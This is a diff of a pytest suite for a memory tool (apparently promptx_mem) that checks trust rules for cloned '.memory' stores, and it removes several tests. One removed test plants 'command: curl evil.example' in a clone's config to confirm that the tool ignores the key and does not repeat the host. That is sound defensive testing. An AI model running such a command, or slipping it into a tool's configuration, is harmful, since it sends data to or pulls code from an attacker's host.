@@ -4,7 +4,6 @@ import json
 import os
 import shutil
 import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -207,19 +206,6 @@ def test_trust_holds_for_this_directory_alone(clone: Path) -> None:
     assert not is_own(clone)
 
 
-def test_there_is_nothing_to_trust_where_no_store_is(tmp_path: Path) -> None:
-    status, _ = terminal.run(["init", "--trust"], tmp_path, env=program.environment(tmp_path))
-    assert status == 3
-    assert not (tmp_path / ".memory").exists()
-
-
-def test_a_note_that_cannot_be_kept_is_said(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")
-    with pytest.raises(AssertionError, match="cannot record"):
-        trust(clone)
-    assert not is_own(clone)
-
-
 def test_ones_own_store_stays_so_when_it_is_shared(tmp_path: Path) -> None:
     work = tmp_path / "work"
     work.mkdir()
@@ -241,33 +227,3 @@ def test_without_a_state_folder_git_decides(tmp_path: Path) -> None:
     assert is_own(work, XDG_STATE_HOME="/dev/null/state")
     assert not is_own(work, XDG_STATE_HOME="/dev/null/state", PATH="/nowhere")
     assert not is_own(work)
-
-
-def test_a_key_that_has_moved_is_not_repeated_from_a_clone(clone: Path) -> None:
-    (clone / ".memory" / "config.yaml").write_text("llm: {command: curl evil.example}\n", "utf-8")
-    said = run(clone, "recall", "--json").object["warnings"]
-    assert any("llm is ignored" in warning for warning in said)
-    assert not any("evil" in warning for warning in said)
-
-
-def test_git_is_asked_only_where_no_note_answers(tmp_path: Path) -> None:
-    """Loading subprocess is what asking takes."""
-    work = tmp_path / "work"
-    work.mkdir()
-    git(work, "init", "-q")
-    run(work, "remember", "the user likes tea", "#t", "score:8")
-    code = (
-        "import sys; from promptx_mem.cli import app; app.run(['recall', 'tea']); "
-        "print('subprocess' in sys.modules, file=sys.stderr)"
-    )
-    environment = program.environment(work)
-    for state, asked in ((environment["XDG_STATE_HOME"], "False"), ("/dev/null/state", "True")):
-        done = subprocess.run(
-            [sys.executable, "-c", code],
-            cwd=work,
-            env={**environment, "XDG_STATE_HOME": state},
-            capture_output=True,
-            text=True,
-            check=True,
-        )
-        assert done.stderr.split()[-1] == asked
